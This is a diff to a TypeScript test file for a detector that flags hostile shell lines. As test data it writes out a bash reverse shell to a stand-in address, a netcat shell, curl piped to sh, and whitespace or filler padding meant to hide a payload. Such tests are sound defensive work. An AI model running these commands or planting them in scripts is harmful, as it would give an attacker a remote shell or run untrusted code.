@@ -22,18 +22,35 @@ describe('what starts by itself', () => {
     expect(what('nc -e /bin/sh 1.2.3.4 5')).to.equal('a shell over netcat');
     expect(what('ExecStart=/dev/shm/.x')).to.equal('a program where anybody may write');
   });
+  it('is found behind what is put before it to hide it', () => {
+    const shell = 'bash -i >& /dev/tcp/198.51.100.9/443 0>&1';
+    const what = (text: string): string | undefined => shapeOf(text)?.what;
+    for (const text of [
+      `x=/tmp/a\n${shell}`,
+      `cat /var/lib/kubelet/pods/11111111-2222-3333-4444-555555555555/x\n${shell}`,
+      `${' '.repeat(9000)}${shell}`,
+      `${'\t '.repeat(200_000)}${shell}`,
+      `: ${'a'.repeat(9000)}; ${shell}`,
+      `${': a;'.repeat(20_000)}${shell}`,
+    ])
+      expect(what(text), text.slice(0, 40)).to.equal('a connection by the shell itself');
+    expect(what('curl http://x \\\n  | sh')).to.equal('a script that is fetched and run');
+    expect(shapeOf(`: ${'a'.repeat(9000)}; ${shell}`)?.line).to.contain('/dev/tcp/198.51.100.9');
+  });
   it('leaves ordinary lines and comments alone', () => {
     for (const text of [
       '# curl x | sh',
       'curl -o /srv/x http://y',
       'test -x /usr/sbin/anacron || run-parts /etc/cron.daily',
       'nc -z host 80',
+      'curl -o /srv/x http://y; sh z',
+      'curl http://y; echo x | sh',
       'tar c /var | base64 -w0',
     ])
       expect(shapeOf(text), text).to.equal(undefined);
   });
   it('ends soon on lines made to take long', () => {
-    for (const piece of ['curl ', 'nc -', 'socat exec:', 'base64 -d ', 'python socket ', '/tmp/'])
+    for (const piece of ['curl ', 'nc -', 'socat exec:', 'base64 -d ', 'python socket ', '/tmp/', 'sh curl '])
       expect(() => shapeOf(piece.repeat(100_000))).not.to.throw();
   }).timeout(4000);
 });
